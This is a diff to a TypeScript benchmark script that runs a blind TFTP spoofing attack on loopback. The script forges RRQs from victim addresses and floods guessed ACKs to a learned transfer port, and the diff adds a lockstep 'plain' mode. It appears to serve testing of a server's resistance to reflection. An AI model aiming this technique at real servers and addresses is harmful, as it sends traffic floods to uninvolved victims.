@@ -1,14 +1,15 @@
 /**
  * The blind spoofer of issue 21 item 1, against any TFTP server on loopback:
  *
- *   bun bench/blind-spoofer.ts --port 69 [--file big] [--trials 5] [--styles lockstep,window]
+ *   bun bench/blind-spoofer.ts --port 69 [--file big] [--trials 5] [--styles lockstep,window,plain]
  *                              [--spoof-ms 3000] [--tail-ms 3000] [--label NAME]
  *
  * Each trial: one ordinary request of the spoofer's own (from 127.0.0.1) shows it one transfer
  * port of the server (its transfer is then ended with an ERROR); from a victim's address
  * (127.0.0.20+, a socket that only counts what reaches it) it sends an RRQ (blksize 1468,
  * windowsize 64) and, every 2 ms for --spoof-ms, an ACK to the port it learned: 0, 1, 2, …
- * ("lockstep") or 0, 64, 128, … ("window", the issue's). The victim counts UDP payload bytes
+ * ("lockstep") or 0, 64, 128, … ("window", the issue's); "plain" asks blksize 1468 only (a
+ * lockstep transfer, as most PXE ROMs make) and ACKs 0, 1, 2, …. The victim counts UDP payload bytes
  * for --spoof-ms + --tail-ms. A "hit" is a trial whose transfer datagrams (not ERRORs) came from
  * the learned port: the blind guess was right.
  *
@@ -25,7 +26,7 @@ for (let i = 2; i < process.argv.length; i += 2) args.set(process.argv[i]!.repla
 const PORT = Number(args.get("port") ?? 69);
 const FILE = args.get("file") ?? "big";
 const TRIALS = Number(args.get("trials") ?? 5);
-const STYLES = (args.get("styles") ?? "lockstep,window").split(",");
+const STYLES = (args.get("styles") ?? "lockstep,window,plain").split(",");
 const SPOOF_MS = Number(args.get("spoof-ms") ?? 3000);
 const TAIL_MS = Number(args.get("tail-ms") ?? 3000);
 const LABEL = args.get("label") ?? `port ${PORT}`;
@@ -87,7 +88,7 @@ async function trial(victimAddress: string, style: string, oracle: boolean) {
     spooferBytes += d.length;
     send(victim, d, port);
   };
-  spoof(rrq(FILE, [["blksize", "1468"], ["windowsize", "64"]]), PORT);
+  spoof(rrq(FILE, style === "plain" ? [["blksize", "1468"]] : [["blksize", "1468"], ["windowsize", "64"]]), PORT);
   await Bun.sleep(20);
   const until = Date.now() + SPOOF_MS;
   for (let n = 0; Date.now() < until; n++) {
